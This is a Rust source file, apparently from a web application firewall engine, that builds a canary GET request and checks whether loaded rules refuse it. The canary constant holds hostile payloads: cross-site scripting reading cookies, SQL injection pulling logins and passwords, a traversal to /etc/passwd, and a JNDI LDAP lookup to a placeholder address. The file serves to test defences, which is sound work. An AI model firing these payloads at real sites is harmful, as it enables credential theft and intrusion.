//! A known attack against rules that are loaded: whether they still refuse it.

use core::{net::Ipv4Addr, time::Duration};
use std::sync::Arc;

use glacis_engine::{Endpoint, Program};

use crate::{
    decision::Decision,
    inspector::Inspector,
    request::{Header, RequestHead},
    sample::Sample,
    settings::Settings,
};

/// Path and query of a request that the OWASP Core Rule Set refuses at every paranoia level: cross-site
/// scripting, SQL injection, a traversal and a look-up, so that no single exclusion makes it harmless.
pub const CRS_CANARY: &str = "/?glacis-canary=%3Cscript%3Ealert(document.cookie)%3C/script%3E\
    &glacis-canary-2=1'%20UNION%20SELECT%20login,password%20FROM%20users--%20-\
    &glacis-canary-3=../../../../etc/passwd&glacis-canary-4=%24%7Bjndi:ldap://192.0.2.1/a%7D";

/// An address of documentation (RFC 5737): rules that trust local addresses do not trust this one.
const CLIENT: Endpoint =
    Endpoint { address: core::net::IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)), port: 4711 };

/// Whether `program`, applied as `settings` say, refuses a GET of `uri` (path and query).
///
/// It leaves nothing in persistent collections, and no record.
#[must_use]
pub fn refuses(program: &Arc<Program>, settings: &Settings, uri: &str, time: Duration) -> bool {
    let settings = Settings { sample: Sample::default(), collections: None, ..settings.clone() };
    let mut inspector = Inspector::new(Arc::clone(program), Arc::new(settings));
    let header = |name: &'static str, value| Header { name: name.as_bytes(), value };
    let decision = inspector.request_headers(&RequestHead {
        headers: &[
            header(":method", b"GET"),
            header(":path", uri.as_bytes()),
            header(":authority", b"glacis.invalid"),
            header(":scheme", b"https"),
            header("user-agent", b"glacis-canary"),
            header("accept", b"*/*"),
        ],
        protocol: Some("HTTP/1.1"),
        end_of_stream: true,
        id: "glacis-canary",
        time,
        source: Some(CLIENT),
        destination: None,
        user: None,
        lot: 0,
        audit_lot: 0,
    });
    matches!(decision, Decision::Reply(_))
}
